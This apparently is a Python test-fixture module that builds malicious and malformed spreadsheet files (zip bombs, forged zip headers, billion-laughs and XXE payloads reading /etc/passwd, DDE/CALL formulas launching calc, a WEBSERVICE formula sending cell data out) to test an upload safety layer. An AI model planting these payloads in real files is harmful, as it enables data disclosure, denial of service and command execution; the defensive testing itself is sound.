"""Hostile, broken and wrong-kind files, built from scratch at test time (no binary fixtures).

`CASES` maps a readable case name to a function returning the file's bytes; each function is
cached, so a case is built once per test session. Most cases derive from `valid_xlsx_bytes()`:
its parts are read with `xlsx_parts`, changed, and zipped again with `build_zip`, a small zip
writer that writes whatever sizes, CRCs and counts it is given, which is how forged files are
made. To add a case (a content-level one too), write a function and register it in `CASES`.
"""

from __future__ import annotations

import functools
import gzip
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable, Mapping
from dataclasses import astuple, dataclass

import openpyxl

MIB = 1024 * 1024
CONTENT_TYPES = "[Content_Types].xml"
WORKBOOK = "xl/workbook.xml"
WORKBOOK_RELS = "xl/_rels/workbook.xml.rels"
SHEET = "xl/worksheets/sheet1.xml"
MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"


# --- a zip writer that writes what it is told --------------------------------------------------


@dataclass(frozen=True)
class Member:
    """One zip member as written: `payload` is stored as is; sizes and CRC are declared as given."""

    name: str
    payload: bytes
    size: int
    crc: int
    method: int = zipfile.ZIP_DEFLATED
    flags: int = 0


def member(name: str, content: bytes, *, method: int = zipfile.ZIP_DEFLATED) -> Member:
    """An honest member holding `content`."""
    if method == zipfile.ZIP_DEFLATED:
        deflater = zlib.compressobj(6, zlib.DEFLATED, -zlib.MAX_WBITS)
        payload = deflater.compress(content) + deflater.flush()
    else:
        payload = content
    return Member(name, payload, len(content), zlib.crc32(content), method)


_LOCAL = struct.Struct("<4s5H3L2H")
_CENTRAL = struct.Struct("<4s6H3L5H2L")
_END = struct.Struct("<4s4H2LH")


def build_zip(members: Iterable[Member], *, declared_count: int | None = None) -> bytes:
    """A zip of `members` in order; the end record declares `declared_count` entries if given."""
    out = io.BytesIO()
    directory = []
    for item in members:
        name = item.name.encode("utf-8")
        flags = item.flags | 0x800  # names are UTF-8
        fields = (item.method, 0, 0x21, item.crc, len(item.payload), item.size, len(name))
        offset = out.tell()
        out.write(_LOCAL.pack(b"PK\x03\x04", 20, flags, *fields, 0) + name + item.payload)
        directory.append(
            _CENTRAL.pack(b"PK\x01\x02", 20, 20, flags, *fields, 0, 0, 0, 0, 0, offset)
        )
        directory[-1] += name
    start = out.tell()
    central = b"".join(directory)
    count = len(directory) if declared_count is None else declared_count
    out.write(central + _END.pack(b"PK\x05\x06", 0, 0, count, count, len(central), start, 0))
    return out.getvalue()


def xlsx_parts(data: bytes) -> dict[str, bytes]:
    """The members of a zip, by name, in order."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def rezip(parts: Mapping[str, bytes]) -> bytes:
    return build_zip(member(name, content) for name, content in parts.items())


def repeated_member(name: str, head: bytes, block: bytes, count: int) -> Member:
    """A member holding `head` then `block` `count` times, deflated without holding it all.

    A full flush resets the deflate dictionary, so every block after it compresses to the same
    bytes: compress one and repeat it. A GiB of zeros is built in well under a second.
    """
    deflater = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    first = deflater.compress(head) + deflater.flush(zlib.Z_FULL_FLUSH)
    repeated = deflater.compress(block) + deflater.flush(zlib.Z_FULL_FLUSH)
    payload = first + repeated * count + deflater.flush()
    crc = zlib.crc32(head)
    for _ in range(count):
        crc = zlib.crc32(block, crc)
    return Member(name, payload, len(head) + len(block) * count, crc)


# --- the valid workbook and variants of it -----------------------------------------------------


@functools.cache
def valid_xlsx_bytes() -> bytes:
    """A small, valid workbook as openpyxl saves it."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "Rencana Aksi"
    sheet.append(["No", "Indikator Kinerja", "Satuan", "Target", "Realisasi"])
    sheet.append([1, "Persentase dokumen perencanaan tepat waktu", "%", 100, 95])
    sheet.append([2, "Jumlah laporan kinerja triwulan", "Dokumen", 4, 1])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _variant(
    *,
    add: Mapping[str, bytes] | None = None,
    drop: Iterable[str] = (),
    types: str = "",
    rels: str = "",
) -> bytes:
    """The valid workbook with parts added or dropped and entries added to its content types
    ([Content_Types].xml) and workbook relationships."""
    parts = xlsx_parts(valid_xlsx_bytes())
    for name in drop:
        del parts[name]
    parts.update(add or {})
    parts[CONTENT_TYPES] = parts[CONTENT_TYPES].replace(b"</Types>", f"{types}</Types>".encode())
    closing = b"</Relationships>"
    parts[WORKBOOK_RELS] = parts[WORKBOOK_RELS].replace(closing, rels.encode() + closing)
    return rezip(parts)


def _with_prolog(xml: bytes, prolog: bytes) -> bytes:
    """`xml` with `prolog` (a DOCTYPE, comments) put before its root element."""
    if xml.startswith(b"<?xml"):
        end = xml.index(b"?>") + 2
        return xml[:end] + prolog + xml[end:]
    return prolog + xml


def _override(part: str, content_type: str) -> str:
    return f'<Override PartName="/{part}" ContentType="{content_type}"/>'


def _relationship(
    rel_id: str, kind: str, target: str, *, external: bool = False, namespace: str = REL_NS
) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rel_id}" Type="{namespace}/{kind}" Target="{target}"{mode}/>'


def _rels_part(*relationships: str) -> bytes:
    return f'<Relationships xmlns="{RELS_NS}">{"".join(relationships)}</Relationships>'.encode()


def _valid_part(name: str) -> bytes:
    return xlsx_parts(valid_xlsx_bytes())[name]


# --- wrong kinds of file -----------------------------------------------------------------------


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)  # 1x1 pixel, 8-bit RGB
    pixels = zlib.compress(b"\x00\xff\xff\xff")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def _pdf() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n"
        b"2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\n"
        b"trailer <</Root 1 0 R>>\n%%EOF\n"
    )


def _csv() -> bytes:
    rows = ["No;Indikator Kinerja;Target;Realisasi", "1;Persentase dokumen tepat waktu;100;95"]
    return "\r\n".join(rows).encode("cp1252")


def _spreadsheetml_2003() -> bytes:
    return (
        b'<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n'
        b'<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="A">'
        b"</Worksheet></Workbook>\n"
    )


def _office_zip(folder: str, main: str) -> bytes:
    """A zip shaped like a Word or PowerPoint file (their own top folder)."""
    parts = {
        CONTENT_TYPES: b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        f"{folder}/{main}": b"<document/>",
    }
    return rezip(parts)


def _opendocument(mimetype: str) -> bytes:
    return build_zip(
        [
            member("mimetype", mimetype.encode(), method=zipfile.ZIP_STORED),  # first, stored
            member("content.xml", b"<office:document-content/>"),
            member("META-INF/manifest.xml", b"<manifest:manifest/>"),
        ]
    )


_ENDOFCHAIN, _FATSECT, _FREESECT, _NOSTREAM = 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF, 0xFFFFFFFF


def ole2_file(stream_name: str, stream: bytes) -> bytes:
    """A minimal OLE2 compound file (version 3, 512-byte sectors) holding one stream.

    olefile only reads, so the layout is written by hand (MS-CFB): header, one FAT sector, one
    directory sector, then the stream. Padding the stream to 4096 bytes keeps it out of the
    mini stream, so no MiniFAT is needed. olefile and msoffcrypto-tool read the result.
    """
    stream = stream.ljust(max(4096, -(-len(stream) // 512) * 512), b"\x00")
    sectors = len(stream) // 512
    fat = [_FATSECT, _ENDOFCHAIN, *range(3, 2 + sectors), _ENDOFCHAIN]
    fat += [_FREESECT] * (128 - len(fat))
    header = struct.pack(
        "<8s16s5H6s9I109I",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        bytes(16),
        0x3E,  # minor version
        3,  # major version: 512-byte sectors
        0xFFFE,  # little-endian
        9,  # sector shift: 512
        6,  # mini sector shift: 64
        bytes(6),
        0,  # directory sectors (always 0 in version 3)
        1,  # FAT sectors
        1,  # first directory sector
        0,  # transaction signature
        4096,  # mini stream cutoff
        _ENDOFCHAIN,  # first MiniFAT sector: none
        0,
        _ENDOFCHAIN,  # first DIFAT sector: none
        0,
        0,  # DIFAT[0]: the FAT is sector 0
        *[_FREESECT] * 108,
    )

    def entry(name: str, kind: int, child: int, start: int, size: int) -> bytes:
        encoded = (name + "\x00").encode("utf-16-le") if name else b""
        siblings = (_NOSTREAM, _NOSTREAM, child)
        return struct.pack(
            "<64sHBB3I16sIQQIQ", encoded, len(encoded), kind, 1, *siblings, bytes(16), 0, 0, 0,
            start, size,
        )  # fmt: skip

    directory = (
        entry("Root Entry", 5, 1, _ENDOFCHAIN, 0)
        + entry(stream_name, 2, _NOSTREAM, 2, len(stream))
        + entry("", 0, _NOSTREAM, 0, 0) * 2
    )
    return header + struct.pack("<128I", *fat) + directory + stream


def _legacy_xls() -> bytes:
    """An unencrypted Excel 97-2003 file: a Workbook stream with a BOF and an EOF record."""
    bof = struct.pack("<HHHHHHII", 0x0809, 16, 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 6)
    eof = struct.pack("<HH", 0x000A, 0)
    return ole2_file("Workbook", bof + eof)


def _encrypted_xlsx() -> bytes:
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(valid_xlsx_bytes())).encrypt("rahasia", out)
    return out.getvalue()


# --- broken and hostile zips --------------------------------------------------------------------


def _members() -> list[Member]:
    """The valid workbook's members, written honestly."""
    return [member(name, content) for name, content in xlsx_parts(valid_xlsx_bytes()).items()]


def _replacing(*items: Member, declared_count: int | None = None) -> bytes:
    """The valid workbook with members replaced by the same-named `items`, or added."""
    replacements = {item.name: item for item in items}
    members = [replacements.pop(item.name, item) for item in _members()]
    return build_zip([*members, *replacements.values()], declared_count=declared_count)


def _corrupted_sheet() -> bytes:
    sheet = member(SHEET, _valid_part(SHEET))
    payload = bytearray(sheet.payload)
    payload[len(payload) // 2] ^= 0xFF
    return _replacing(Member(SHEET, bytes(payload), sheet.size, sheet.crc))


def _zip_bomb() -> bytes:
    """The sheet followed by 1 GiB of spaces (valid XML whitespace): ~1 MB on disk."""
    return _replacing(repeated_member(SHEET, _valid_part(SHEET), b" " * MIB, 1024))


def _forged_size(*, fix_crc: bool) -> bytes:
    """The sheet plus 256 MiB of spaces, declared as only the sheet's size.

    With `fix_crc` the CRC is that of the declared bytes too, so a reader that stops at the
    declared size sees a consistent member and only a reader that does not stop is hurt.
    """
    sheet = _valid_part(SHEET)
    real = repeated_member(SHEET, sheet, b" " * MIB, 256)
    crc = zlib.crc32(sheet) if fix_crc else real.crc
    return _replacing(Member(SHEET, real.payload, len(sheet), crc))


def _million_rows() -> bytes:
    """A sheet of 1,000,000 small rows: ~50 MB of XML, a few MB on disk."""
    deflater = zlib.compressobj(1, zlib.DEFLATED, -zlib.MAX_WBITS)
    head = f'<worksheet xmlns="{MAIN_NS}"><dimension ref="A1:A1000000"/><sheetData>'.encode()
    payload, size, crc = [deflater.compress(head)], len(head), zlib.crc32(head)
    for start in range(1, 1_000_001, 50_000):
        rows = range(start, start + 50_000)
        chunk = "".join(f'<row r="{r}"><c r="A{r}"><v>{r}</v></c></row>' for r in rows).encode()
        payload.append(deflater.compress(chunk))
        size, crc = size + len(chunk), zlib.crc32(chunk, crc)
    tail = b"</sheetData></worksheet>"
    payload += [deflater.compress(tail), deflater.flush()]
    return _replacing(Member(SHEET, b"".join(payload), size + len(tail), zlib.crc32(tail, crc)))


def _padding_members(count: int) -> list[Member]:
    return [member(f"xl/media/pad{number:05}.txt", b"x") for number in range(count)]


def _heavy_media() -> bytes:
    """Within every limit yet costly: 10 x 15 MiB of media compressing ~40:1 (passes safety)."""
    block = random.Random(7).randbytes(16 * 1024) * 64  # repeats within deflate's window
    image = repeated_member("xl/media/image1.bin", b"", block, 15)
    return _replacing(
        *(Member(f"xl/media/image{n}.bin", *astuple(image)[1:]) for n in range(1, 11))
    )


# --- XML entity attacks ------------------------------------------------------------------------

_LAUGHS = ['<!ENTITY lol0 "lol">'] + [
    f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)
]
BILLION_LAUGHS = f"<!DOCTYPE sst [{''.join(_LAUGHS)}]>".encode()  # 10**9 "lol" from &lol9;
XXE = b'<!DOCTYPE workbook [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
EXTERNAL_DTD = b'<!DOCTYPE worksheet SYSTEM "http://example.invalid/kinerja.dtd">'


def _shared_strings(xml: bytes) -> bytes:
    """The valid workbook with a shared-strings part (openpyxl reads it) holding `xml`."""
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
    return _variant(
        add={"xl/sharedStrings.xml": xml},
        types=_override("xl/sharedStrings.xml", kind),
        rels=_relationship("rIdSst", "sharedStrings", "sharedStrings.xml"),
    )


def _billion_laughs() -> bytes:
    strings = f'<sst xmlns="{MAIN_NS}" count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>'
    return _shared_strings(BILLION_LAUGHS + strings.encode())


def _xxe_workbook(*, encoding: str = "utf-8") -> bytes:
    workbook = _valid_part(WORKBOOK).replace(b'name="Rencana Aksi"', b'name="&xxe;"')
    text = _with_prolog(workbook, XXE).decode()
    if encoding == "utf-16":
        data = ('<?xml version="1.0" encoding="UTF-16"?>' + text).encode("utf-16")
    elif encoding == "cp037":  # EBCDIC hides "<!DOCTYPE"; expat cannot read it, libxml2 can
        data = b'<?xml version="1.0" encoding="cp037"?>' + text.encode("cp037")
    else:
        data = text.encode()
    return _variant(add={WORKBOOK: data})


def _doctype_after_padding() -> bytes:
    """A DOCTYPE after 100 KB of comment, beyond a scan of the first few KiB."""
    padding = b"<!--" + b" padding " * 12_000 + b"-->"
    return _variant(add={SHEET: _with_prolog(_valid_part(SHEET), padding + XXE)})


def _doctype_across_chunks() -> bytes:
    """A stored sheet whose DOCTYPE (an external DTD, no ENTITY) straddles the 64 KiB steps
    the safety layer reads in."""
    padding = b"<!--" + b"x" * (64 * 1024 - 4 - 4 - 3) + b"-->"
    sheet = _with_prolog(_valid_part(SHEET), padding + EXTERNAL_DTD)
    assert sheet.index(b"<!DOCTYPE") == 64 * 1024 - 4
    return _replacing(member(SHEET, sheet, method=zipfile.ZIP_STORED))


def _doctype_in_odd_part() -> bytes:
    """XML with a DOCTYPE under a name that does not end in .xml (parsers follow relationships)."""
    return _variant(add={"xl/media/data.bin": _with_prolog(_valid_part(SHEET), XXE)})


# --- the registry -------------------------------------------------------------------------------

_MACRO_TYPE = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
_XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
_PIVOT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.pivotCacheDefinition+xml"
_LINK_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
_MS_REL_NS = "http://schemas.microsoft.com/office/2006/relationships"
_SHEET_RELS = "xl/worksheets/_rels/sheet1.xml.rels"
_DRAWING_RELS = "xl/drawings/_rels/drawing1.xml.rels"
_JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
_OLE2_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def _valid_without(name: str) -> bytes:
    parts = xlsx_parts(valid_xlsx_bytes())
    del parts[name]
    return rezip(parts)


# --- ambiguous zips: two readers, two contents ---------------------------------------------------


def _end_record(data: bytes) -> tuple[int, tuple[int, ...]]:
    at = data.rindex(b"PK\x05\x06")
    return at, _END.unpack_from(data, at)


def _hidden_member() -> bytes:
    """A local header and data that no directory entry names, between the members and the
    directory: a streaming reader finds an extra sheet the directory never shows."""
    data = valid_xlsx_bytes()
    at, fields = _end_record(data)
    start = fields[6]
    hidden = build_zip([member("xl/worksheets/sheet9.xml", b"<worksheet/>")])
    hidden = hidden[: hidden.index(b"PK\x01\x02")]
    moved = _END.pack(*fields[:6], start + len(hidden), fields[7])
    return data[:start] + hidden + data[start:at] + moved + data[at + _END.size :]


def _prefixed() -> bytes:
    """A member of another zip before the workbook: zipfile shifts every offset past it."""
    other = build_zip([member("xl/worksheets/sheet1.xml", b"<worksheet/>")])
    return other[: other.index(b"PK\x01\x02")] + valid_xlsx_bytes()


def _second_end_record() -> bytes:
    """A second end record after the first: zipfile reads the last, others the first."""
    data = valid_xlsx_bytes()
    at, _ = _end_record(data)
    return data + data[at:]


def _local_header_patched(offset: int, value: int) -> bytes:
    """The first member's local header with one 16- or 32-bit field changed (directory kept)."""
    data = bytearray(valid_xlsx_bytes())
    width = 2 if offset < 14 else 4
    data[offset : offset + width] = value.to_bytes(width, "little")
    return bytes(data)


class _Stream(io.RawIOBase):
    """A file that cannot seek: zipfile then writes sizes in data descriptors after the data,
    as streaming writers (and some spreadsheet tools) do."""

    def __init__(self) -> None:
        self.data = bytearray()

    def writable(self) -> bool:
        return True

    def write(self, chunk: bytes) -> int:  # type: ignore[override]
        self.data += chunk
        return len(chunk)


@functools.cache
def streamed_xlsx() -> bytes:
    """The valid workbook written as a stream: every member followed by a data descriptor."""
    stream = _Stream()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in xlsx_parts(valid_xlsx_bytes()).items():
            archive.writestr(name, content)
    return bytes(stream.data)


def _descriptor_lies() -> bytes:
    """The first data descriptor declares another CRC than the directory does."""
    data = bytearray(streamed_xlsx())
    at = data.index(b"PK\x07\x08") + 4
    data[at : at + 4] = b"\xde\xad\xbe\xef"
    return bytes(data)


def _overlapping_entries() -> bytes:
    """A second directory entry, under another name, pointing at the first member's bytes."""
    data = valid_xlsx_bytes()
    at, fields = _end_record(data)
    first = fields[6]
    name_size, extra_size, comment_size = struct.unpack_from("<3H", data, first + 28)
    entry = bytearray(data[first : first + 46 + name_size + extra_size + comment_size])
    entry[46] = ord("Y") if entry[46] != ord("Y") else ord("Z")  # another name, same length
    moved = _END.pack(*fields[:3], fields[3] + 1, fields[4] + 1, fields[5] + len(entry), first, 0)
    return data[:first] + bytes(entry) + data[first:at] + moved


def _sheet_with_cell(cell_xml: str) -> bytes:
    """The valid workbook with raw XML of one more row (cells, formulas) in its sheet."""
    row = f'<row r="9">{cell_xml}</row>'.encode()
    sheet = _valid_part(SHEET).replace(b"</sheetData>", row + b"</sheetData>")
    return _variant(add={SHEET: sheet})


def _defined_name(formula: str) -> bytes:
    names = f'<definedNames><definedName name="Sumber">{formula}</definedName></definedNames>'
    workbook = _valid_part(WORKBOOK).replace(b"<definedNames />", names.encode())
    assert workbook != _valid_part(WORKBOOK)
    return _variant(add={WORKBOOK: workbook})


def _hyperlink(target: str) -> bytes:
    return _variant(
        add={_SHEET_RELS: _rels_part(_relationship("rId1", "hyperlink", target, external=True))}
    )


# A formula in a cell, as XML, and the rule that refuses it.
ACTIVE_FORMULAS: dict[str, tuple[str, str]] = {
    "dde_cmd": ("<f>cmd|' /C calc'!A0</f>", "safety.dde"),
    "dde_function": ('<f>DDE("cmd";"/C calc";"A0")</f>', "safety.dde"),
    "ddeauto": ('<f>DDEAUTO("cmd","/C calc")</f>', "safety.dde"),
    "webservice": ('<f>_xlfn.WEBSERVICE("http://x.example/?"&amp;A1)</f>', "safety.active_formula"),
    "filterxml": ('<f>_xlfn.FILTERXML(A1,"//a")</f>', "safety.active_formula"),
    "call": ('<f>CALL("kernel32","WinExec","JCJ","calc",0)</f>', "safety.active_formula"),
    "register": ('<f>REGISTER("kernel32","WinExec")</f>', "safety.active_formula"),
    "exec": ('<f>EXEC("calc.exe")</f>', "safety.active_formula"),
    "rtd": ('<f>RTD("prog.id",,"topic")</f>', "safety.active_formula"),
    "xll_function": ("<f>_xll.Evil(1)</f>", "safety.active_formula"),
    "hyperlink_to_file": (
        '<f>HYPERLINK("file:///C:/Windows/calc.exe","x")</f>',
        "safety.file_link",
    ),
    "hyperlink_to_share": ('<f>HYPERLINK("\\\\srv\\s\\a.exe")</f>', "safety.file_link"),
    "character_references": ("<f>&#87;EBSERVICE(A1)</f>", "safety.active_formula"),
    "prefixed_element": (
        f'<x:f xmlns:x="{MAIN_NS}">WEBSERVICE(A1)</x:f>',
        "safety.active_formula",
    ),
    "external_index": ("<f>[1]Sheet1!A1</f>", "safety.external_link"),
    "external_path": ("<f>'C:\\data\\[x.xlsx]S'!A1</f>", "safety.external_link"),
}
# What a defined name may refer to elsewhere, and the rule.
EXTERNAL_NAMES: dict[str, tuple[str, str]] = {
    "index": ("[1]Sheet1!$A$1", "safety.external_link"),
    "drive_path": ("'C:\\data\\[x.xlsx]S'!$A$1", "safety.external_link"),
    "file_url": ("'file:///C:/data/[x.xlsx]S'!$A$1", "safety.external_link"),
    "unc_path": ("\\\\server\\share\\[x.xlsx]S!$A$1", "safety.external_link"),
    "dde": ("cmd|'/C calc'!A0", "safety.dde"),
}
# Hyperlink targets (external relationships of a sheet) and whether they are refused.
HYPERLINKS: dict[str, bool] = {
    "https://disdukcapil.jenepontokab.go.id/": False,
    "mailto:perencanaan@example.go.id": False,
    "file:///C:/Windows/System32/calc.exe": True,
    "FILE:///c:/x.txt": True,
    "%66ile:///c:/x.txt": True,
    "\\\\server\\share\\x.xlsx": True,
    "//server/share/x.xlsx": True,
    "C:\\data\\x.xlsx": True,
    "laporan_lama.xlsx": True,  # relative: opened from the folder the workbook lies in
}


CASES: dict[str, Callable[[], bytes]] = {
    "valid": valid_xlsx_bytes,
    "heavy_media": _heavy_media,
    # wrong kinds of file
    "empty": lambda: b"",
    "random_bytes": lambda: random.Random(2024).randbytes(4096),
    "csv_renamed": _csv,
    "html_renamed": lambda: b"<html><body><table><tr><td>1</td></tr></table></body></html>",
    "spreadsheetml_2003": _spreadsheetml_2003,
    "pdf": _pdf,
    "png": _png,
    "jpeg": lambda: _JPEG,
    "gzip": lambda: gzip.compress(valid_xlsx_bytes(), mtime=0),
    "zip_of_xlsx": lambda: rezip({"laporan_tw1.xlsx": valid_xlsx_bytes()}),
    "docx": lambda: _office_zip("word", "document.xml"),
    "pptx": lambda: _office_zip("ppt", "presentation.xml"),
    "ods": lambda: _opendocument("application/vnd.oasis.opendocument.spreadsheet"),
    "odt": lambda: _opendocument("application/vnd.oasis.opendocument.text"),
    "xlsb": lambda: _variant(add={"xl/workbook.bin": b"\x83\x01\x00"}, drop=[WORKBOOK]),
    "legacy_xls": _legacy_xls,
    "legacy_doc": lambda: ole2_file("WordDocument", b"\xec\xa5" + bytes(30)),
    "damaged_ole2": lambda: _OLE2_MAGIC + random.Random(1).randbytes(4096),
    "encrypted_xlsx": _encrypted_xlsx,
    # broken zips
    "truncated_xlsx": lambda: valid_xlsx_bytes()[: len(valid_xlsx_bytes()) // 2],
    "corrupted_member": _corrupted_sheet,
    "oversized_file": lambda: b"PK\x03\x04" + bytes(21 * MIB),
    "missing_worksheet": lambda: _valid_without(SHEET),
    "missing_content_types": lambda: _valid_without(CONTENT_TYPES),
    "duplicate_member": lambda: build_zip([*_members(), member(WORKBOOK, b"<workbook/>")]),
    "zip_password": lambda: build_zip(
        Member(m.name, m.payload, m.size, m.crc, flags=0x1) for m in _members()
    ),
    # ambiguous zips
    "two_zips_concatenated": lambda: valid_xlsx_bytes() + valid_xlsx_bytes(),
    "bytes_before_first_member": _prefixed,
    "second_end_record": _second_end_record,
    "member_hidden_before_directory": _hidden_member,
    "streamed_with_descriptors": streamed_xlsx,
    "data_descriptor_lies": _descriptor_lies,
    "overlapping_entries": _overlapping_entries,
    "local_header_other_method": lambda: _local_header_patched(8, zipfile.ZIP_STORED),
    "local_header_other_size": lambda: _local_header_patched(22, 1),
    "local_header_other_crc": lambda: _local_header_patched(14, 0xDEADBEEF),
    # hostile zips
    "zip_bomb": _zip_bomb,
    "forged_size": lambda: _forged_size(fix_crc=False),
    "forged_size_and_crc": lambda: _forged_size(fix_crc=True),
    "million_rows": _million_rows,
    "many_members": lambda: _replacing(*_padding_members(2001)),
    "lying_member_count": lambda: _replacing(*_padding_members(2500), declared_count=9),
    # active content and links
    "vba_macro": lambda: _variant(
        add={"xl/vbaProject.bin": ole2_file("VBA", b"Attribute VB_Name")},
        types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        rels=_relationship("rIdVba", "vbaProject", "vbaProject.bin", namespace=_MS_REL_NS),
    ),
    "macro_content_type": lambda: _variant(
        add={
            CONTENT_TYPES: _valid_part(CONTENT_TYPES).replace(
                _XLSX_TYPE.encode(), _MACRO_TYPE.encode()
            )
        }
    ),
    "xlm_macrosheet": lambda: _variant(add={"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"}),
    "activex": lambda: _variant(
        add={"xl/activeX/activeX1.xml": b"<ax:ocx/>", "xl/activeX/activeX1.bin": bytes(64)}
    ),
    "ole_embedding": lambda: _variant(
        add={"xl/embeddings/oleObject1.bin": ole2_file("\x01Ole10Native", b"payload")}
    ),
    "linked_ole_object": lambda: _variant(
        add={
            _SHEET_RELS: _rels_part(
                _relationship("rId1", "oleObject", "file:///C:/a.doc", external=True)
            )
        }
    ),
    "external_link": lambda: _variant(
        add={"xl/externalLinks/externalLink1.xml": b"<externalLink/>"},
        types=_override("xl/externalLinks/externalLink1.xml", _LINK_TYPE),
        rels=_relationship("rIdExt", "externalLink", "externalLinks/externalLink1.xml"),
    ),
    "linked_remote_image": lambda: _variant(
        add={
            _DRAWING_RELS: _rels_part(
                _relationship("rId1", "image", "file://server/share/logo.png", external=True)
            )
        }
    ),
    "data_connection": lambda: _variant(add={"xl/connections.xml": b"<connections/>"}),
    "pivot_cache": lambda: _variant(
        add={"xl/pivotCache/pivotCacheDefinition1.xml": b"<pivotCacheDefinition/>"}
    ),
    "pivot_cache_renamed": lambda: _variant(
        add={"xl/data1.xml": b"<pivotCacheDefinition/>"},
        types=_override("xl/data1.xml", _PIVOT_TYPE),
    ),
    "chart_external_data": lambda: _variant(
        add={
            "xl/charts/chart1.xml": b'<c:chartSpace xmlns:c="urn:c"><c:externalData/>'
            b"</c:chartSpace>"
        }
    ),
    "dde_link_part": lambda: _variant(
        add={"xl/links/l1.xml": b"<x><ddeLink ddeService='cmd'/></x>"}
    ),
    # XML entity attacks
    "billion_laughs": _billion_laughs,
    "xxe_workbook": _xxe_workbook,
    "xxe_utf16": lambda: _xxe_workbook(encoding="utf-16"),
    "xxe_ebcdic": lambda: _xxe_workbook(encoding="cp037"),
    "doctype_after_padding": _doctype_after_padding,
    "doctype_across_chunks": _doctype_across_chunks,
    "doctype_in_odd_part": _doctype_in_odd_part,
}
CASES |= {
    f"formula_{k}": functools.partial(_sheet_with_cell, f'<c r="A9">{v}</c>')
    for k, (v, _) in ACTIVE_FORMULAS.items()
}
CASES |= {
    f"defined_name_{k}": functools.partial(_defined_name, v) for k, (v, _) in EXTERNAL_NAMES.items()
}
CASES |= {f"hyperlink_{i}": functools.partial(_hyperlink, t) for i, t in enumerate(HYPERLINKS)}
for _name in list(CASES):  # build each case once per session
    CASES[_name] = functools.cache(CASES[_name])
